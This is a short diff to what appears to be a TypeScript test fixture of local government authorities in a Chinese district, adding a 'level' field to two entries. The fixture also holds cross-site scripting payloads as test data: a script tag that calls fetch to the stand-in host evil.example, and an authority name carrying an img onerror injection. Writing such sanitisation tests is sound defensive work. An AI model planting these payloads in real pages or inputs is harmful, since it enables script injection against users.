@@ -23,8 +23,8 @@ const SCRIPT = `<script>parent.stolen=1;fetch('https://evil.example/x')</script>
 const AUTHORITIES: readonly (Pick<RegisteredAuthority, 'id' | 'name'> & Partial<RegisteredAuthority>)[] = [
   { id: 'finance', name: '云河区财政局' },
   { id: 'education', name: '云河区教育局' },
-  { id: 'government', name: '云河区人民政府', kind: 'county_gov' },
-  { id: 'qingshi', name: '青石镇人民政府', kind: 'township' },
+  { id: 'government', name: '云河区人民政府', kind: 'county_gov', level: 'county' },
+  { id: 'qingshi', name: '青石镇人民政府', kind: 'township', level: 'township' },
   { id: 'hostile', name: `云河区“<img src=x onerror=alert(1)>”局` },
   {
     id: 'water',
